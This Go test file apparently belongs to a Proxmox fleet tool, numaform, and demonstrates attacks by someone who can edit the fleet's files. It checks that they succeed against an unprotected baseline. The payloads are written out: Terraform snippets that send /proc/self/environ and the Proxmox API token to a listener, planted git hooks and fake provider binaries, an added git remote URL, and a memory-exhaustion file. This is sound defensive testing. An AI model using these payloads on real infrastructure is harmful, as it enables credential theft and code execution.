package hostile_test

import (
	"encoding/json"
	"fmt"
	"maps"
	"os"
	"path"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"testing"

	"golang.org/x/mod/sumdb/dirhash"

	"github.com/numaform/numaform/generator"
	"github.com/numaform/numaform/internal/enginetest"
	"github.com/numaform/numaform/internal/pvesim"
	"github.com/numaform/numaform/modules"
)

// attack is a change of a fleet's files by an attacker who can only change these files.
type attack struct {
	name string
	edit func(w *world, f files)
	// names is the path, or part of the path, that a refusal must name.
	names string
	// namesBy returns that path, if it is only known after the attack.
	namesBy func() string
	// tree is the path of a file that only a hand-made tree can contain; edit is nil.
	tree string
	// only is the place where the attack is possible; empty means all places.
	only place
	// passes is set for an attack that numaform ignores instead of refusing it.
	passes bool
	// left is set for an attack that has no effect in a directory.
	left bool
	// fresh is set for an attack on a machine without a working copy.
	fresh bool
	// some is set for an attack that runs with one command only, or with two with
	// -hostile.full. more is set for one of many similar attacks: it only runs in
	// `make nightly`, with one command, and not against the baseline.
	some, more bool
	// command triggers the attack in a numaform that does not refuse it; the default is
	// plan.
	command []string
	// twice is set if the command must run twice, as in the controller.
	twice bool
	// huge is set for an attack by size, for which memory is measured. It is slow, so it
	// runs with one engine only.
	huge bool
	// succeeded describes why the attack did not succeed against the baseline, or returns
	// "".
	succeeded func(w *world, saw *seen) string
}

// seen is the observed effect of a command of numaform.
type seen struct {
	result
	// started lists the starts of engines, providers and the attacker's programs.
	started []string
	// connections is the number of connections to the listener, and asked the data sent
	// over them.
	connections int
	asked       []byte
	exposed     []string
	guests      []string
	writes      []string
}

// watch runs a command and returns its observed effects.
func (w *world) watch(args ...string) *seen {
	w.t.Helper()
	saw := &seen{result: w.run(args...)}
	saw.started, saw.exposed, saw.guests, saw.writes = w.started(), w.exposed(), w.sameGuests(), w.writes()
	saw.connections, saw.asked = w.listener.seen()
	return saw
}

func planNothing() []string  { return []string{"plan", "-f", "nothing.yaml"} }
func applyNothing() []string { return []string{"apply", "-f", "nothing.yaml", "--auto-approve"} }

// environ is an expression that evaluates to the engine's environment, encoded for a URL.
const environ = `urlencode(filebase64("/proc/self/environ"))`

// remoteState returns a module's file that sends the engine's environment to the listener
// without a provider.
func (w *world) remoteState(mark string) string {
	return fmt.Sprintf(`data "terraform_remote_state" "x" {
  backend = "http"
  config = {
    address = "%s/%s?environ=${%s}"
  }
}
`, w.listener.server.URL, mark, environ)
}

// carried returns the files of a fleet's modules by their paths without the hash, and the
// hash.
func (f files) carried(w *world) (map[string][]byte, string) {
	w.t.Helper()
	content, hash := map[string][]byte{}, ""
	for name, file := range f {
		if parts := strings.SplitN(name, "/", 4); len(parts) == 4 && parts[0] == "modules" {
			content[path.Join(parts[1], parts[3])], hash = file.content, parts[2]
		}
	}
	if modules.HashOf(content) != hash {
		w.t.Fatalf("the fleet's modules are %v under %s", slices.Sorted(maps.Keys(content)), hash)
	}
	return content, hash
}

// ownModule adds the attacker's own modules under the hash of their content, makes the node
// file call them, and returns the hash.
func (f files) ownModule(w *world, node string, change func(content map[string][]byte)) string {
	w.t.Helper()
	content, hash := f.carried(w)
	change(content)
	own := modules.HashOf(content)
	for name, text := range content {
		module, rest, _ := strings.Cut(name, "/")
		f.put(path.Join("modules", module, own, rest), string(text))
	}
	f.edit(w, node, hash, own)
	return own
}

// resurrect restores the node file of the removed VM, so that apply has a change to make.
func (f files) resurrect(w *world) string {
	f.put(w.removed, string(w.removedContent))
	return w.removed
}

// with returns a function that adds a file to modules.
func with(name, text string) func(map[string][]byte) {
	return func(content map[string][]byte) { content[name] = []byte(text) }
}

// evil returns an attacker's program that records its start, and whether its environment
// contains the Proxmox token.
func (w *world) evil(mark string) string {
	return fmt.Sprintf("#!/bin/sh\necho %s $(env | grep -c ^PROXMOX_VE_API_TOKEN=) >>%q\nexit 1\n", mark, w.notes())
}

// step and staged describe an interrupted write in numaform's format.
type step struct {
	Path   string `json:"path"`
	Before []byte `json:"before"`
	After  []byte `json:"after"`
	Mode   string `json:"mode,omitempty"`
}

type staged struct {
	Steps []step `json:"steps"`
}

// next returns the JSON of an interrupted write.
func (w *world) next(steps ...step) string {
	text, err := json.Marshal(staged{Steps: steps})
	w.must(err)
	return string(text)
}

// gitConfig returns the git configuration of a working copy whose first URL is the
// listener.
func (w *world) gitConfig() []byte {
	return fmt.Appendf(nil, "[core]\n\tbare = false\n[remote \"origin\"]\n\turl = %s/fleet.git\n\turl = %s\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n",
		w.listener.server.URL, w.path("remote.git"))
}

// shown returns the attacks that were demonstrated against the baseline.
func shown() []attack {
	providerDir := path.Join(rootDir, ".terraform/providers", generator.ProviderSource, generator.ProviderVersion, runtime.GOOS+"_"+runtime.GOARCH)
	provider := path.Join(".numaform/work", providerDir, "terraform-provider-proxmox_v"+generator.ProviderVersion)
	return []attack{
		{
			name: "module under its own hash", names: "node-workers",
			edit: func(w *world, f files) {
				f.ownModule(w, f.nodes()[0], with("proxmox-node/zz.tf", w.remoteState("own-hash")))
			},
			succeeded: tokenSent,
		},
		{
			name: "module puts the token into a description", names: "node-workers", command: applyNothing(),
			edit: func(w *world, f files) {
				f.ownModule(w, f.resurrect(w), func(content map[string][]byte) {
					main := strings.Replace(string(content["proxmox-node/main.tf"]), `join("\n", var.description)`,
						`join("\n", concat(var.description, [base64encode(regex("PROXMOX_VE_API_TOKEN=[^\\x00]*", file("/proc/self/environ")))]))`, 1)
					content["proxmox-node/main.tf"] = []byte(main)
				})
			},
			succeeded: func(_ *world, saw *seen) string {
				if !strings.Contains(strings.Join(saw.exposed, "\n"), "guest 2") || len(saw.guests) != 1 {
					return fmt.Sprintf("no guest contains the token: %v", saw.exposed)
				}
				return ""
			},
		},
		{
			name: "file beside a module in the working directory", left: true, names: ".numaform", command: applyNothing(),
			edit: func(w *world, f files) {
				_, hash := f.carried(w)
				f.resurrect(w)
				f.put(".numaform/work/modules/proxmox-node/"+hash+"/zz.tf", w.remoteState("work"))
			},
			succeeded: tokenSent,
		},
		{
			name: "file beside a module in the working directory of a new clone", names: ".numaform", only: inGit, fresh: true, command: applyNothing(),
			edit: func(w *world, f files) {
				_, hash := f.carried(w)
				f.resurrect(w)
				f.put(".numaform/work/modules/proxmox-node/"+hash+"/zz.tf", w.remoteState("work"))
			},
			succeeded: tokenSent,
		},
		{
			name: "provider in the working directory", names: ".numaform", only: inGit, fresh: true, command: applyNothing(),
			edit: func(w *world, f files) {
				f.resurrect(w)
				f.program(provider, w.evil("evil-provider"))
				dir := w.t.TempDir()
				w.must(os.WriteFile(filepath.Join(dir, path.Base(provider)), []byte(w.evil("evil-provider")), 0o600))
				sum, err := dirhash.HashDir(dir, "", dirhash.Hash1)
				w.must(err)
				f.put(".numaform/work/"+rootDir+"/.terraform.lock.hcl", fmt.Sprintf("provider %q {\n  version     = %q\n  constraints = %q\n  hashes = [\n    %q,\n  ]\n}\n",
					generator.ProviderSource, generator.ProviderVersion, generator.ProviderVersion, sum))
			},
			succeeded: func(_ *world, saw *seen) string {
				if !slices.Contains(saw.started, "evil-provider 1") {
					return fmt.Sprintf("started: %q", saw.started)
				}
				return ""
			},
		},
		{
			name: "cut-off write puts a hook into the working copy", names: ".numaform/next.json", only: inGit,
			edit: func(w *world, f files) {
				f.put(".numaform/next.json", w.next(step{Path: ".git/hooks/post-commit", After: []byte(w.evil("hook")), Mode: "executable"}))
			},
			command: applyNothing(), succeeded: exists("fleet/.git/hooks/post-commit"),
		},
		{
			name: "cut-off write through a link", names: ".numaform/next.json", only: inGit,
			edit: func(w *world, f files) {
				f.link("elsewhere", w.path("home"))
				f.put(".numaform/next.json", w.next(step{Path: "elsewhere/program", After: []byte(w.evil("outside")), Mode: "executable"}))
			},
			command: applyNothing(), succeeded: exists("home/program"),
		},
		{
			name: "cut-off write adds a second URL", names: ".numaform/next.json", only: inGit,
			edit: func(w *world, f files) {
				have := w.clonedConfig()
				f.put(".numaform/next.json", w.next(step{Path: ".git/config", Before: have, After: w.gitConfig()}))
			},
			command: applyNothing(), twice: true, succeeded: func(_ *world, saw *seen) string {
				if !slices.Contains(leaked(saw.asked), gitCanary) {
					return fmt.Sprintf("the listener received: %s\n%s", saw.asked, saw.said)
				}
				return ""
			},
		},
		{
			name: "sub-module by http", names: "node-workers", edit: subModule("%s/module.zip"), succeeded: asked,
		},
		{
			name: "sub-module by git", names: "node-workers", edit: subModule("git::%s/module.git"), succeeded: asked,
		},
		{
			name: "huge node file", names: "node-workers", huge: true,
			edit:      func(_ *world, f files) { f.put(f.nodes()[0], strings.Repeat("\n", 100<<20)) },
			succeeded: tookMemory,
		},
	}
}

// clonedConfig returns the git configuration of the working copy, whose content an attacker
// can guess.
func (w *world) clonedConfig() []byte {
	content, err := os.ReadFile(w.path("fleet", ".git", "config"))
	if os.IsNotExist(err) {
		return []byte("[core]\n\tbare = false\n")
	}
	w.must(err)
	return content
}

func subModule(source string) func(w *world, f files) {
	return func(w *world, f files) {
		text := fmt.Sprintf("module \"x\" {\n  source = %q\n}\n", fmt.Sprintf(source, w.listener.server.URL))
		f.ownModule(w, f.nodes()[0], with("proxmox-node/zz.tf", text))
	}
}

// tokenSent checks that the listener received the Proxmox token.
func tokenSent(_ *world, saw *seen) string {
	if !slices.Contains(leaked(saw.asked), tokenCanary) {
		return fmt.Sprintf("the listener received: %q", saw.asked)
	}
	return ""
}

// asked checks that the listener received a connection.
func asked(_ *world, saw *seen) string {
	if saw.connections == 0 {
		return "the listener received no connection"
	}
	return ""
}

// tookMemory checks that the command used at least maxMemoryMiB.
func tookMemory(_ *world, saw *seen) string {
	if saw.memoryMiB < maxMemoryMiB {
		return fmt.Sprintf("it used %d MiB", saw.memoryMiB)
	}
	return ""
}

// maxMemoryMiB is the memory limit of a command of numaform on a small fleet.
const maxMemoryMiB = 150

// exists checks that a file of the world exists.
func exists(name string) func(*world, *seen) string {
	return func(w *world, _ *seen) string {
		if _, err := os.Stat(w.path(name)); err != nil {
			return err.Error()
		}
		return ""
	}
}

// launch restores the world and runs an attack.
func (w *world) launch(a attack) {
	w.t.Helper()
	w.restore()
	w.measures = a.huge
	if a.tree != "" {
		w.pushTree(a.tree)
		return
	}
	after := maps.Clone(w.before)
	a.edit(w, after)
	w.attack(w.before, after)
	if a.fresh {
		w.must(os.RemoveAll(w.path("fleet")))
	}
}

// TestBaseline is the control: it checks that the demonstrated attacks succeed against the
// baseline. `make test` runs them with OpenTofu in git, without the huge attacks;
// `make nightly` runs them with each engine in each place.
func TestBaseline(t *testing.T) {
	t.Parallel()
	for name, engine := range engines(t) {
		for _, where := range []place{inGit, inDirectory} {
			if !enginetest.EveryCase() && (name != "tofu" || where != inGit) {
				continue
			}
			t.Run(name+" "+string(where), func(t *testing.T) {
				t.Parallel()
				w := newWorld(t, baseline(t), where, engine)
				for _, a := range shown() {
					if a.possible(w, name) && (enginetest.EveryCase() || !a.huge) {
						t.Run(a.name, func(t *testing.T) { w.of(t).succeeds(a) })
					}
				}
			})
		}
	}
}

// possible reports whether an attack can run in a world with an engine.
func (a *attack) possible(w *world, engine string) bool {
	return (a.only == "" || a.only == w.place) && (!a.huge || engine == "tofu")
}

// where returns the path that a refusal must name.
func (a *attack) where() string {
	if a.namesBy != nil {
		return a.namesBy()
	}
	return a.names
}

// succeeds checks that an attack has its intended effect.
func (w *world) succeeds(a attack) {
	w.t.Helper()
	w.launch(a)
	command := a.command
	if command == nil {
		command = planNothing()
	}
	saw := w.watch(command...)
	if a.twice {
		saw = w.watch(command...)
	}
	if missing := a.succeeded(w, saw); missing != "" {
		w.t.Errorf("the attack did not succeed: %s\n%s", missing, saw.said)
	}
	w.restoreAll()
}

// of returns a copy of the world for a subtest.
func (w *world) of(t *testing.T) *world {
	part := *w
	part.t = t
	return &part
}

// restoreAll restores the guests and the states that an attack created, changed or removed,
// so that the next attack does not succeed through the effects of this attack.
func (w *world) restoreAll() {
	w.t.Helper()
	for vmid := range w.found() {
		if _, existed := w.guests[vmid]; !existed {
			w.sim.RemoveGuest(vmid)
		}
	}
	now := w.found()
	for _, guest := range w.guestsBefore {
		if now[guest.VMID] != w.guests[guest.VMID] {
			w.must(w.sim.PutGuest(pvesim.Guest{
				VMID: guest.VMID, Host: guest.Host, Kind: guest.Kind, Config: guest.Config, Running: guest.Running, HA: guest.HA, Pool: guest.Pool,
			}))
		}
	}
	w.states.Restore(w.statesBefore)
	if left := append(w.sameGuests(), w.statesChanged()...); len(left) > 0 {
		w.t.Fatalf("the world could not be restored:\n%s", strings.Join(left, "\n"))
	}
}
